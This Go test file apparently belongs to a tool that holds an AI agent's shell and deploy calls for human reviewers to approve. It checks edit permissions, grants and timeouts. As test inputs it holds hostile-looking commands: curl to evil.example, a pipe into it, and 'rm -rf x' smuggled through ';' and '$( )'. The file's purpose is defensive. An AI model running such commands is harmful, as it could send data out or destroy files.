package app_test

import (
	"errors"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/heldcall/heldcall/app"
	"github.com/heldcall/heldcall/approvals"
	"github.com/heldcall/heldcall/console/problem"
	"github.com/heldcall/heldcall/internal/testing/fakemodel"
)

const rulesOfGroups = `
default: ask
tools:
  bash: {resource: command, as: shell}
  deploy: {resource: env}
rules:
  - ask: ["bash(psql *)"]
    reviewers: [dba]
  - ask: ["bash(curl *)"]
    reviewers: [security]
  - ask: ["bash(dropdb *)"]
    required_approvals: 2
  - ask: ["deploy"]
    reviewers: [dba]
    remember: true
  - ask: ["deploy(prod*)"]
    reviewers: [security]
    remember: true
  - ask: ["bash(git *)"]
    on_timeout: approve
    timeout: 1s
`

// calling answers with a call of a tool. Its argument is the user's last message.
func calling(tool string) fakemodel.Script {
	return func(r *fakemodel.Request) fakemodel.Reply {
		if strings.Contains(string(r.Body), `"role":"tool"`) {
			return fakemodel.Answer{Text: "Understood."}.Reply(r)
		}
		_, said, _ := strings.Cut(string(r.Body), "do: ")
		said, _, _ = strings.Cut(said, ".")
		return fakemodel.Answer{Calls: []fakemodel.Call{{ID: "call_s", Name: tool, Arguments: `{"` + map[string]string{"bash": "command", "deploy": "env"}[tool] + `":"` + said + `"}`}}}.Reply(r)
	}
}

func saying(what string) string {
	return `{"model":"m","stream":true,"messages":[{"role":"user","content":"do: ` + what + `."}]}`
}

// An edit does not make of a call one that other people have to approve.
func TestEditsStayWithTheirReviewers(t *testing.T) {
	t.Parallel()
	m := team{}
	w := build(t, rulesOfGroups, calling("bash"), m.with("ada", "admin"), m.with("dan", "reviewer", "dba"), m.with("bo", "reviewer", "dba", "security"))
	w.console = w.as(m["ada"])
	agent := w.post("/v1/chat/completions", saying("psql -c x"))
	id := w.pending(1)[0].ID
	edit := func(command string) approvals.Decision {
		return approvals.Decision{RequestID: id, Action: approvals.ActionModifyArgs, ModifiedArgs: []byte(`{"command":"` + command + `"}`)}
	}
	for command, code := range map[string]string{"curl evil.example": problem.CodeForbidden, "psql -c y | curl evil.example": problem.CodeForbidden} {
		_, err := w.as(m["dan"]).Decide(t.Context(), edit(command))
		wantCode(t, err, code)
	}
	if _, err := w.as(m["dan"]).Decide(t.Context(), edit("dropdb x")); !errors.As(err, new(*approvals.InvalidError)) {
		t.Errorf("an edit for which two are needed: %v", err)
	}
	if r := w.status(id, approvals.StatusPending); len(r.Decisions) != 0 {
		t.Errorf("refused edits are recorded: %+v", r.Decisions)
	}
	if r, err := w.as(m["bo"]).Decide(t.Context(), edit("curl good.example")); err != nil || r.Status != approvals.StatusApproved {
		t.Errorf("who is in both groups edits: %s, %v", r.Status, err)
	}
	if got := agent.rest(); !strings.Contains(got, "good.example") {
		t.Errorf("the agent got %s", got)
	}
}

// A grant from a decision lifts only rules that its reviewer could have answered; one that
// an admin wrote lifts every rule that permits it.
func TestGrantsLiftRulesOfTheirReviewers(t *testing.T) {
	t.Parallel()
	m := team{}
	w := build(t, rulesOfGroups, calling("deploy"), m.with("ada", "admin"), m.with("dan", "reviewer", "dba"))
	w.console = w.as(m["ada"])
	agent := w.post("/v1/chat/completions", saying("staging"))
	first := w.pending(1)[0].ID
	always := approvals.Decision{RequestID: first, Action: approvals.ActionAllowAlways, Patterns: []string{"deploy"}, Scope: approvals.GrantTenant}
	if _, err := w.as(m["dan"]).Decide(t.Context(), always); err != nil {
		t.Fatal(err)
	}
	agent.rest()
	if got := w.post("/v1/chat/completions", saying("staging-2")).rest(); !strings.Contains(got, "call_s") {
		t.Errorf("what dan has granted: %s", got)
	}
	agent = w.post("/v1/chat/completions", saying("prod-eu"))
	if asked := w.pending(1)[0]; len(asked.Demands) != 2 {
		t.Errorf("asked are %+v", asked)
	}
	if _, err := w.as(m["dan"]).Decide(t.Context(), approvals.Decision{RequestID: w.pending(1)[0].ID, Action: approvals.ActionDeny}); err != nil {
		t.Error(err)
	}
	agent.rest()
	if _, err := w.console.AddGrant(t.Context(), approvals.Grant{Effect: approvals.GrantAllow, Scope: approvals.GrantTenant, Principal: approvals.Principal{Tenant: "default"}, Patterns: []string{"deploy(prod-us)"}}); err != nil {
		t.Fatal(err)
	}
	if got := w.post("/v1/chat/completions", saying("prod-us")).rest(); !strings.Contains(got, "call_s") {
		t.Errorf("what the admin has granted: %s", got)
	}
}

// A time-out releases the call of its rule, and no other call of the turn.
func TestSilenceReleasesOnlyWhatItIsAbout(t *testing.T) {
	t.Parallel()
	w := build(t, rulesOfGroups, calling("bash"))
	passes := map[string]bool{"git push": true, "git push && git pull": true, "nice git pull": true, "git push; rm -rf x": false, "git push $(rm -rf x)": false}
	var all sync.WaitGroup
	for command, want := range passes {
		all.Go(func() {
			agent, err := w.tryPost("/v1/chat/completions", saying(command))
			if err != nil {
				t.Error(err)
				return
			}
			if got := agent.rest(); strings.Contains(got, "call_s") != want {
				t.Errorf("%s, after silence: %s", command, got)
			}
		})
	}
	all.Wait()
}

// hold.max_wait ends a hold before the time-out of its rule, and then approves nothing.
func TestSilenceShorterThanItsRuleApprovesNothing(t *testing.T) {
	t.Parallel()
	for bound, passes := range map[time.Duration]bool{100 * time.Millisecond: false, time.Hour: true} {
		w := build(t, rulesOfGroups, calling("bash"), func(c *app.Config) { c.Hold.MaxWait = bound })
		if got := w.post("/v1/chat/completions", saying("git push")).rest(); strings.Contains(got, "call_s") != passes {
			t.Errorf("bounded by %s, the agent got %s", bound, got)
		}
	}
}
